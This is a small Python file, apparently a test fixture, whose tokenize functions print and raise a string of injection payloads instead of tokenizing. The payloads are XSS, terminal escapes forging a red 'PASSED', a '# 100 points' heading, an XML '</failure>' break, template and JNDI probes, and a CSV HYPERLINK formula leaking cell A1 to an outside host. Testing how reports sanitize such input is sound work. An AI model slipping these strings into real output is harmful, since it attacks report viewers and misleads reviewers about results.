"""Puts lone surrogates, terminal escapes, HTML, Markdown and a CSV formula wherever a report may show text."""

import re

ODD = (
    "\ud800\udfff \x1b[2J\x1b[31mPASSED\x1b[0m \x1b]0;title\x07 \x00\r"
    "<script>alert(1)</script> <img src=x onerror=alert(1)> ](javascript:alert(1)) |x| ```\n# 100 points\n"
    '=HYPERLINK("http://example.org?"&A1) \u202e\u2028 ]]></failure> &amp; {{7*7}} ${jndi:x}'
)

Odd = type("Odd\x1b[31m<b>", (ValueError,), {})


def tokenize(text):
    print(ODD)
    raise Odd(ODD)


def tokenize_corpus(texts):
    print(ODD)
    return [[ODD]]
